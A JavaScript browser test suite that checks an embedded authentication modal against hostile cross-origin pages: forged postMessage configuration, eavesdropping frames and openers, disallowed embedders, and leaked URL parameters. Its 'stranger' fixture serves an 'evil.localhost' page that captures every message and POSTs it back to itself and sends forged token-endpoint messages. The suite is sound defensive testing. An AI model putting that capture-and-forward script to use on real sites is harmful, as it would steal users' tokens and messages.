// Pages that mean no good.
import assert from "node:assert/strict";
import { visit } from "../lib/browser.mjs";
import { eventually } from "../lib/claims.mjs";
import { listen, send } from "../lib/host.mjs";

export const hostile = (kit) => ({
  async "only the embedding page decides where the modal asks, whoever speaks first"() {
    const evil = await stranger();
    const person = await kit.person();
    // The modal without parameters in its address: only messages can tell it anything.
    await person.page.evaluate(async ([modal, evil]) => {
      const add = (src, id) => Object.assign(document.body.appendChild(document.createElement("iframe")), { src, id });
      const frame = add(modal, "event-link");
      add(evil, "evil");
      frame.style.cssText = "width:100%;height:600px;display:block";
    }, [`${kit.url}/authkit`, `${evil.url}/shout`]);
    await eventually("the stranger speaks", () => evil.shouts >= 5);
    await person.modal.getByRole("heading", { name: "One moment…" }).waitFor();
    await person.page.evaluate(([endpoint, authorization, target]) => {
      const message = { linkTokenEndpoint: endpoint, linkHeaders: { authorization } };
      document.getElementById("event-link").contentWindow.postMessage(message, target);
    }, [kit.host.node, `Bearer ${person.identity}:${person.secret}`, kit.url]);
    await person.modal.getByRole("searchbox").waitFor();
    const before = evil.shouts;
    await eventually("the stranger goes on", () => evil.shouts >= before + 5);
    assert.equal(evil.asked, 0);
    assert.deepEqual(evil.heard, []);
    await person.leave();
    evil.stop();
  },

  async "neither a stranger's frame nor the opener of the application hears anything"() {
    const evil = await stranger();
    const person = await kit.person({ page: `${evil.url}/opener?${encodeURIComponent(kit.host.page)}` });
    const [page] = await Promise.all([person.page.waitForEvent("popup"), person.page.locator("#go").click()]);
    person.become(page);
    await person.page.locator("#open").waitFor();
    await person.page.evaluate((src) => Object.assign(document.body.appendChild(document.createElement("iframe")), { src }), `${evil.url}/listen`);
    await eventually("the stranger listens", () => evil.listeners >= 2);
    await person.open({ selectedConnection: "Gmail" });
    await person.signIn("Gmail");
    await person.called("success");
    await person.button("Done").click();
    await person.gone();
    const origins = await person.page.evaluate(() => window.messages.filter(({ data }) => data.messageType).map(({ origin }) => origin));
    assert.deepEqual([...new Set(origins)], [kit.url]);
    assert.deepEqual(evil.heard, []);
    await person.leave();
    evil.stop();
  },

  async "the modal opened as a window of its own does nothing for its opener"() {
    const evil = await stranger();
    const data = btoa(JSON.stringify({ linkTokenEndpoint: `${evil.url}/token`, linkHeaders: { authorization: "Bearer x" } }));
    for (const address of [`${kit.url}/authkit`, `${kit.url}/authkit?data=${encodeURIComponent(data)}`]) {
      const { context, page } = await visit(kit.browser);
      await page.goto(`${evil.url}/opener?${encodeURIComponent(address)}`);
      const [popup] = await Promise.all([page.waitForEvent("popup"), page.locator("#go").click()]);
      await popup.getByRole("heading", { name: "Open this from within the app" }).waitFor();
      assert.equal(new URL(popup.url()).search, "");
      const before = evil.shouts;
      await eventually("the opener speaks", () => evil.shouts >= before + 5);
      await popup.getByRole("heading", { name: "Open this from within the app" }).waitFor();
      await context.close();
    }
    assert.equal(evil.asked, 0);
    assert.deepEqual(evil.heard, []);
    evil.stop();
  },

  async "an application whose origin is not allowed cannot show the modal, an allowed one can"() {
    const stranger = await kit.many.person();
    await stranger.open();
    await eventually("the frame is refused", () => stranger.seen.said.some((text) => /frame-ancestors/.test(text)));
    assert.equal(await stranger.modal.locator("dialog").count(), 0);
    await stranger.context.close();
    const allowed = await kit.many.person({ page: "http://shop.localhost/" });
    await allowed.openList({ backEnd: "/api/token" });
    await allowed.leave();
  },

  async "the address loses its parameters before anything is asked"() {
    const person = await kit.person();
    const addresses = [];
    await person.context.route("**/api/token*", async (route) => {
      addresses.push((await person.frame()).url());
      return route.fallback();
    });
    await person.openList();
    assert.ok(addresses.length > 0);
    const frame = await person.frame();
    for (const address of [...addresses, await frame.evaluate(() => location.href)]) assert.equal(address, `${kit.url}/authkit`);
    assert.deepEqual(person.seen.referrers.filter((referrer) => referrer.includes("data=")), []);
    await person.leave();
  },
});

/** A page of another origin that shouts at the modal, and keeps what it hears and is asked. */
async function stranger() {
  const seen = { shouts: 0, asked: 0, listeners: 0, heard: [] };
  const script = `
    addEventListener("message", ({ data }) => fetch("/heard", { method: "POST", body: JSON.stringify(data) ?? "" }));
    const shout = (target) => {
      target?.postMessage({ linkTokenEndpoint: location.origin + "/token", linkHeaders: { authorization: "Bearer x" } }, "*");
      fetch("/shouted");
    };
    fetch("/listening");`;
  const pages = {
    "/shout": `setInterval(() => shout(parent.frames[0]), 60);`,
    "/listen": "",
    "/opener": `go.onclick = () => {
      const opened = open(decodeURIComponent(location.search.slice(1)));
      setInterval(() => shout(opened), 60);
    };`,
  };
  const { server, port } = await listen(async (request, response) => {
    const { pathname } = new URL(request.url, "http://x");
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("access-control-allow-headers", "authorization, content-type");
    let body = "";
    for await (const piece of request) body += piece;
    if (pathname === "/shouted") seen.shouts += 1;
    if (pathname === "/listening") seen.listeners += 1;
    if (pathname === "/heard") seen.heard.push(body);
    if (pathname === "/token") seen.asked += 1;
    if (!(pathname in pages)) return send(response, 200, "application/json", "{}");
    return send(response, 200, "text/html", `<!doctype html><title>Other</title><link rel="icon" href="data:,"><button id="go">Go</button><script>${script}${pages[pathname]}</script>`);
  });
  return Object.assign(seen, {
    url: `http://evil.localhost:${port}`,
    stop: () => (server.closeAllConnections(), server.close()),
  });
}
